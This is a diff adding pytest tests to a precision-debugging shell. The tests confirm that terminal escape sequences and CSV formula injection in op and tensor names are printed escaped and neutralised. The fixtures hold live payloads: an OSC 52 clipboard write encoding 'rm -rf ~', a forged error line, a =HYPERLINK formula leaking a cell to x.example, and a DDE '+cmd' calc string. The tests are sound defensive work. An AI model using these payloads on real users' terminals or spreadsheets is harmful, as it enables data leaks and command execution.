@@ -147,3 +147,190 @@ def test_mapping_from_fifo_and_device_is_one_line(tmp_path):
         errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
         assert len(errors) == 1 and str(specials[kind]) in errors[0], (kind, done.stderr)
         assert "Traceback" not in done.stderr and "Functional.relu.0.forward" not in errors[0]
+
+
+# -- 5. names are shown, not executed by the terminal --------------------------------------
+
+OSC_TITLE = "\x1b]0;pwned\x07"
+OSC_CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"       # 'rm -rf ~' on the clipboard
+CSI = "\x1b[2J\x1b[1;31m\u009b31m"
+FORGED = "\nerror: FAKE all entries match\r"
+RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")    # \t and \n are pshell's own
+
+
+def _evil(name: str) -> str:
+    head, tail = name[: len(name) // 2], name[len(name) // 2:]
+    return head + OSC_TITLE + OSC_CLIPBOARD + CSI + FORGED + tail
+
+
+def _assert_shown_escaped(out: str, err: str) -> None:
+    for stream in (out, err):
+        raw = RAW_CONTROL.findall(stream)
+        assert not raw, f"raw control characters {sorted(set(raw))!r} reached the terminal"
+        assert not any(line.startswith("error: FAKE") for line in stream.splitlines())
+    assert "\\x1b]0;pwned\\x07" in out + err     # shown, escaped
+
+
+def _text_proto_string(text: str) -> bytes:
+    """``text`` inside a GE text-proto string: controls raw (ESC, BEL are legal there), newlines
+    and CRs as the proto escapes \\n and \\r."""
+    return text.replace("\n", "\\n").replace("\r", "\\r").encode("utf-8")
+
+
+@pytest.fixture(scope="module")
+def evil_graph_ws(tmp_path_factory):
+    import json
+
+    from precision_shell.samples.writer import SampleOptions, write_workspace
+
+    root = tmp_path_factory.mktemp("evil_ws")
+    write_workspace(root, SampleOptions(seed=0))
+    pd = root / "precision_data"
+    op, fused_pass = "conv1/kernel", "AABiasaddConvFusion"
+    for graph in (pd / "npu" / "debug_0" / "graph").iterdir():
+        data = graph.read_bytes().replace(op.encode(), _text_proto_string(_evil(op)))
+        graph.write_bytes(data.replace(fused_pass.encode(), _text_proto_string(_evil(fused_pass))))
+    fusion = pd / "fusion" / "fusion_result.json"
+    report = fusion.read_text(encoding="utf-8")
+    fusion.write_text(report.replace(fused_pass, json.dumps(_evil(fused_pass))[1:-1]), encoding="utf-8")
+    return root
+
+
+@pytest.mark.parametrize("line", ["ls -n conv1", "ls -t Const", "ls -f AABias", "ni pwned",
+                                  "lo pwned", "li conv1/Conv2D", "fusion", "info", "vcs -l 0",
+                                  "ac -l 0", "ls -n conv1 --format csv", "ls -n conv1 --format json",
+                                  "pt pwned:0", "ni nothing\x1b]0;x\x07"])
+def test_graph_names_with_escapes_are_printed_escaped(evil_graph_ws, capsys, tmp_path, line):
+    rc, out, err = run_cli(capsys, evil_graph_ws, "-o", tmp_path / "out", "-c", line)
+    assert "internal error" not in err and "Traceback" not in err
+    raw = RAW_CONTROL.findall(out + err)
+    assert not raw, f"`{line}`: raw {sorted(set(raw))!r}"
+    assert not any(x.startswith("error: FAKE") for x in (out + err).splitlines())
+    if line.startswith(("ls -n", "ni pwned", "lo", "li", "fusion", "ls -f")):
+        assert "pwned" in out     # the name is shown ...
+        if "--format json" not in line:
+            assert "\\x1b]0;pwned\\x07" in out     # ... escaped, not dropped
+
+
+FORMULA = '=HYPERLINK("http:x.example?leak="&A1,"click").npy'
+
+
+@pytest.fixture(scope="module")
+def evil_framework_pair(tmp_path_factory):
+    from framework_dumps import write_dump
+
+    base = tmp_path_factory.mktemp("evil_fw")
+    name = _evil("Functional.relu") + ".0.forward"
+    rng = np.random.default_rng(0)
+    x = rng.standard_normal(16).astype(np.float32)
+    dumps = []
+    for side, values in (("t", x + 0.5), ("g", x)):
+        dumps.append(write_dump(base / side / "step0" / "rank0", {
+            name: {"input": [values]}, "Tensor.add.0.forward": {"input": [values, values]}}))
+    # a data_name that is a spreadsheet formula
+    import json
+
+    for dump in dumps:
+        doc = json.loads((dump / "dump.json").read_text())
+        leaf = doc["data"]["Tensor.add.0.forward"]["input"][0]
+        (dump / "dump_tensor_data" / leaf["data_name"]).rename(dump / "dump_tensor_data" / FORMULA)
+        leaf["data_name"] = FORMULA
+        (dump / "dump.json").write_text(json.dumps(doc))
+    return dumps
+
+
+@pytest.mark.parametrize("line", ["ls", "ls -n relu", "ni relu", "vcs -l 0", "vc", "pt Functional:0",
+                                  "info"])
+def test_msprobe_entry_names_with_escapes_are_printed_escaped(evil_framework_pair, capsys, tmp_path, line):
+    target, golden = evil_framework_pair
+    rc, out, err = run_cli(capsys, target, "--golden", golden, "-o", tmp_path / "out", "-c", line)
+    assert "internal error" not in err and "Traceback" not in err
+    raw = RAW_CONTROL.findall(out + err)
+    assert not raw, f"`{line}`: raw {sorted(set(raw))!r}\n{out}\n{err}"
+    assert not any(x.startswith("error: FAKE") for x in (out + err).splitlines())
+
+
+def test_vc_csv_cells_from_data_are_never_formulas(evil_framework_pair, capsys, tmp_path):
+    import csv
+
+    target, golden = evil_framework_pair
+    rc, out, err = run_cli(capsys, target, "--golden", golden, "-o", tmp_path / "out", "-c", "vc")
+    assert rc == 0, err
+    with open(next((tmp_path / "out").glob("*.csv")), newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    header, body = rows[0], rows[1:]
+    cells = [cell for row in body for cell in row]
+    formula = FORMULA[: -len(".npy")]
+    assert "'" + formula in cells                     # the data name, neutralised as OWASP says
+    assert not [c for c in cells if c[:1] in "=+@\t\r"]
+
+    def number(text):
+        try:
+            return float(text)
+        except ValueError:
+            return None
+    negatives = [c for c in cells if c.startswith("-")]
+    assert negatives and all(number(c) is not None for c in negatives)   # numbers stay numbers
+    # the statistics of that row are the values written (min of the target tensor, negative)
+    rng = np.random.default_rng(0)
+    x = rng.standard_normal(16).astype(np.float32) + 0.5
+    row = next(r for r in body if r[0] == "'" + formula)
+    assert float(row[header.index("NPU min")]) == pytest.approx(float(x.min()), rel=1e-6)
+
+
+def test_csv_format_on_stdout_neutralises_formulas_too(evil_graph_ws, capsys, tmp_path):
+    from precision_shell.commands.results import Table
+    from precision_shell.render.text import render
+
+    table = Table(["op", "value", "gap"], [["=1+2", -0.5, "-"], ["@SUM(A1)", 3, "-inf"],
+                                           ["+cmd|' /C calc'!A0", "-2e-3", "-x"]])
+    lines = render(table, "csv").splitlines()
+    assert lines[1:] == ["'=1+2,-0.5,-", "'@SUM(A1),3,-inf", "'+cmd|' /C calc'!A0,-2e-3,'-x"]
+
+
+# -- the escaping, as a property ----------------------------------------------------------
+
+from hypothesis import given, settings, strategies as st   # noqa: E402
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=st.characters(max_codepoint=0x1ff), max_size=40))
+def test_escape_controls_leaves_no_control_and_keeps_the_rest(text):
+    from precision_shell.safe_text import escape_controls
+
+    shown = escape_controls(text)
+    assert not RAW_CONTROL.search(shown) and "\n" not in shown and "\t" not in shown
+    # character by character: a control becomes a short printable escape, the rest stays
+    assert shown == "".join(escape_controls(ch) for ch in text)
+    for ch in set(text):
+        if RAW_CONTROL.match(ch) or ch in "\n\t":
+            assert re.fullmatch(r"\\(?:x[0-9a-f]{2}|[nrt])", escape_controls(ch))
+    if not any(RAW_CONTROL.match(ch) or ch in "\n\t" for ch in text):
+        assert shown == text                  # nothing to escape: unchanged
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(st.text(alphabet=st.characters(max_codepoint=0x1ff), min_size=1, max_size=20),
+                min_size=1, max_size=5))
+def test_rendered_tables_and_errors_carry_no_raw_control(names):
+    import io
+
+    from precision_shell.commands.results import Message, Sections, Table
+    from precision_shell.frontend import Frontend
+    from precision_shell.render.style import Style
+    from precision_shell.render.text import Layout, render
+
+    table = Table(["op", "n"], [[n, i] for i, n in enumerate(names)], title=names[0], notes=names[:1],
+                  warnings=names[-1:])
+    panel = Sections(names[0], [("inputs", [(n, n) for n in names]), ("errors", names)])
+    for result in (table, panel, Message(names)):
+        for style in (Style(False), Style(True)):
+            text = render(result, "table", style, Layout(width=60))
+            assert not RAW_CONTROL.search(text.replace("\x1b[0m", "").replace("\x1b[1m", "")
+                                          .replace("\x1b[1;33m", "").replace("\x1b[36m", "")
+                                          .replace("\x1b[2m", ""))
+        for fmt in ("csv", "json"):
+            assert not RAW_CONTROL.search(render(result, fmt))
+    err = io.StringIO()
+    Frontend(None, err=err).error(" ".join(names))
+    assert not RAW_CONTROL.search(err.getvalue()) and err.getvalue().count("\n") == 1
